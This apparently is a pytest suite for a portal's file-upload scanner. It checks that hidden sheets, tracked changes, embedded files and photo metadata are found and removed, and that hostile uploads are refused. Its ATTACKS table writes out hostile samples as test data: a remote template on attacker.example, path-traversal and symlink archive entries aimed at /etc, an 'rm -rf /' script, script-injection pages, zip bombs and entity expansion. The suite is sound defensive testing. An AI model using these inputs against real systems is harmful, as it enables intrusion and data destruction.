"""What is hidden in a file is found and can be taken away; a clean file raises no alarm; an attack is refused."""

import io
import zipfile

import pytest
from PIL import Image

from portal.uploads.looking import archive, image, open_document, open_xml, pdf, plain, sheet, word
from portal.uploads.looking.looked import Found, Looked, Refused
from portal.uploads.looking.program import dealt_with
from portal.uploads.words import FOUND, REFUSED
from tests.portal.uploads import making


def look(content: bytes, kind: str) -> Looked:
    return dealt_with(content, kind, "look")


@pytest.mark.parametrize("what", making.HIDING)
def test_what_a_file_hides_is_found_named_and_can_be_taken_away(what: str) -> None:
    kind, expected, make = making.HIDING[what]
    content = make()
    assert [one.what for one in look(content, kind).found] == [expected]
    assert expected in FOUND
    cleaned = dealt_with(content, kind, "clean")
    assert not look(cleaned.content, kind).found
    assert b"J.S." not in b"".join(unpacked(cleaned.content))


def unpacked(content: bytes) -> list[bytes]:
    if not zipfile.is_zipfile(io.BytesIO(content)):
        return [content]
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        return [parts.read(name) for name in parts.namelist()]


@pytest.mark.parametrize("what", making.CLEAN)
def test_a_clean_file_raises_no_alarm_and_is_kept_to_the_byte(what: str) -> None:
    kind, make = making.CLEAN[what]
    content = make()
    assert look(content, kind) == Looked(kind, content)


def test_hidden_sheets_and_attached_files_are_listed_by_name() -> None:
    assert look(making.HIDING["a hidden sheet"][2](), "xlsx").found == (
        Found("hidden_sheets", 1, ("Names of children",)),
    )
    assert look(making.HIDING["a file inside a PDF"][2](), "pdf").found[0].names == ("register of children.csv",)


def test_what_was_seen_in_a_workbook_is_still_there_when_the_rest_was_taken_away() -> None:
    hiding = making.xlsx(
        lambda book, page: (page.set_row(2, None, None, {"hidden": True}), book.add_worksheet("Z").hide())
    )
    seen = b"".join(unpacked(sheet.clean(hiding)))
    for words in (b"Moved in", b"fine"):
        assert words in seen
    assert b"secret row" not in seen


def test_changes_are_taken_as_they_stand_and_words_around_hidden_ones_stay() -> None:
    changed = b"".join(unpacked(word.clean(making.docx(making.CHANGED))))
    assert b">well<" in changed
    assert b"ill" not in changed
    assert b"Fine." in b"".join(unpacked(word.clean(making.docx(making.VANISHED))))


# Pictures


@pytest.mark.parametrize(
    ("made", "kind", "kept"), [("JPEG", "jpeg", "jpeg"), ("PNG", "png", "png"), ("HEIF", "heic", "jpeg")]
)
def test_a_picture_keeps_what_is_seen_and_nothing_of_where_and_when(made: str, kind: str, kept: str) -> None:
    before = making.picture(made)
    assert b"Telephone of J.S." in before
    looked = look(before, kind)
    assert looked.kind == kept
    with Image.open(io.BytesIO(looked.content)) as after:
        assert after.format == {"jpeg": "JPEG", "png": "PNG"}[kept]
        assert after.size == (32, 64)  # upright
        red, green, blue = after.convert("RGB").getpixel((16, 5))  # type: ignore[misc]
        assert (red > 200, max(green, blue) < 60) == (True, True)  # what was on the left is on top
        assert not dict(after.getexif())
        assert set(after.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
    assert b"Telephone" not in looked.content


def test_without_drawing_anew_the_place_would_stay(monkeypatch: pytest.MonkeyPatch) -> None:
    """Positive control."""
    monkeypatch.setattr(image, "_drawn", lambda picture, kind: Looked(kind, making.picture()))
    assert b"Telephone" in look(making.picture(), "jpeg").content


# Attacks


MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCTYPE = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'


def archive_of(*infos: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as parts:
        for name, data in infos:
            parts.writestr(name, data)
    return made.getvalue()


def lying() -> bytes:
    """A part that says it is smaller than it is."""
    content = bytearray(archive_of(("[Content_Types].xml", b"x" * 5_000_000)))
    real = (5_000_000).to_bytes(4, "little")
    return bytes(content).replace(real, (100).to_bytes(4, "little"))


def entities() -> bytes:
    document = f'<?xml version="1.0"?>{DOCTYPE}<w:document xmlns:w="{making.W}">&b;</w:document>'
    return making.zipped({"[Content_Types].xml": making.TYPES.format(more=""), "word/document.xml": document})


def symlink() -> zipfile.ZipInfo:
    info = zipfile.ZipInfo("word/link")
    info.external_attr = 0o120777 << 16
    return info


ATTACKS: dict[str, tuple[str, bytes, str]] = {
    "a web page called PDF": ("pdf", b"<html><script>alert(1)</script>", "other_kind"),
    "a PDF with something before it": ("pdf", b"GIF89a" + making.pdf(), "other_kind"),
    "a PDF with an archive behind it": ("pdf", making.pdf() + making.docx(), "two_kinds"),
    "a PDF that is cut off": ("pdf", making.pdf()[:200], "damaged"),
    "a PDF with a password": ("pdf", making.pdf(encryption=making.pikepdf.Encryption(owner="o", user="u")), "password"),
    "an archive with a PDF in front": ("docx", making.pdf() + making.docx(), "other_kind"),
    "an archive with bytes behind it": ("docx", making.docx() + b"<script>", "two_kinds"),
    "a PDF that is a part of an archive": ("docx", making.zipped({"a.pdf": b"%PDF-1.4"}, first="a.pdf"), "two_kinds"),
    "any archive called Word": ("docx", making.zipped({"a.txt": "a"}), "other_kind"),
    "a workbook called Word": ("docx", making.xlsx(), "other_kind"),
    "a text with macros": ("docx", making.docx(macros="x"), "macros"),
    "macros by their type": (
        "docx", making.docx(types=f'<Override PartName="/word/d.xml" ContentType="{MACROS}"/>'), "macros",
    ),
    "macros in OpenDocument": ("odt", making.odt(extra={"Basic/Standard/M.xml": "<x/>"}), "macros"),
    "a template from the internet": (
        "docx",
        making.docx(
            settings_rels=f'<Relationship Id="r" Type="{making.DOCUMENT}/attachedTemplate" '
            'Target="https://attacker.example/t.dotm" TargetMode="External"/>'
        ),
        "fetches",
    ),
    "names that lead out": ("docx", archive_of(("../../canary", b"dead")), "paths"),
    "names from the root": ("docx", archive_of(("/etc/cron.d/canary", b"dead")), "paths"),
    "names of another system": ("docx", archive_of(("..\\canary", b"dead")), "paths"),
    "a link out of the archive": ("docx", archive_of((symlink(), b"/etc/passwd")), "paths"),
    "two parts of one name": ("docx", archive_of(("a.xml", b"1"), ("A.xml", b"2")), "paths"),
    "five thousand parts": ("docx", archive_of(*((f"{n}.xml", b"") for n in range(5000))), "bomb"),
    "a part that unpacks to much": ("docx", archive_of(("a.xml", b"\0" * 30_000_000)), "bomb"),
    "a part that lies about its size": ("docx", lying(), "damaged"),
    "entities that grow": ("docx", entities(), "damaged"),
    "a script called CSV": ("csv", b"#!/bin/sh\nrm -rf /\n", "other_kind"),
    "a page called text": ("txt", b"  <!doctype html><script>alert(1)</script>", "other_kind"),
    "binary called text": ("txt", b"a\0b\x01", "other_kind"),
    "a picture with an archive behind it": ("jpeg", making.picture() + making.docx(), "two_kinds"),
    "a page called JPEG": ("jpeg", b"<html>", "two_kinds"),
    "a PNG called JPEG": ("jpeg", making.picture("PNG"), "other_kind"),
    "a picture that is cut off": ("png", making.picture("PNG")[:100], "damaged"),
}  # fmt: skip


@pytest.mark.parametrize("what", ATTACKS)
def test_an_attack_is_refused_with_a_reason_that_has_words(what: str) -> None:
    kind, content, why = ATTACKS[what]
    with pytest.raises(Refused) as refused:
        look(content, kind)
    assert refused.value.code == why
    assert why in REFUSED


def test_a_picture_of_more_points_than_anybody_needs_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(image, "MOST_PIXELS", 2_000)
    with pytest.raises(Refused, match="bomb"):
        look(making.picture(), "jpeg")


@pytest.mark.parametrize(
    ("module", "name", "attack"),
    [
        (archive, "_names", "names that lead out"),
        (archive, "_nothing_else", "an archive with bytes behind it"),
        (archive, "_sizes", "a part that unpacks to much"),
        (open_xml, "_nothing_fetched", "a template from the internet"),
    ],
)
def test_each_guard_is_what_stops_its_attack(
    monkeypatch: pytest.MonkeyPatch, module: object, name: str, attack: str
) -> None:
    """Positive controls: with one guard taken away its attack is no longer refused for its reason."""
    kind, content, why = ATTACKS[attack]
    monkeypatch.setattr(module, name, lambda *_: None)
    assert outcome(kind, content) != why


def outcome(kind: str, content: bytes) -> str:
    try:
        return look(content, kind).kind
    except Refused as refused:
        return refused.code


def test_every_kind_has_a_way_to_be_looked_at() -> None:
    assert {pdf.look, sheet.look, word.look, open_document.look, plain.look, image.look}
    with pytest.raises(Refused):
        look(b"anything", "heic")
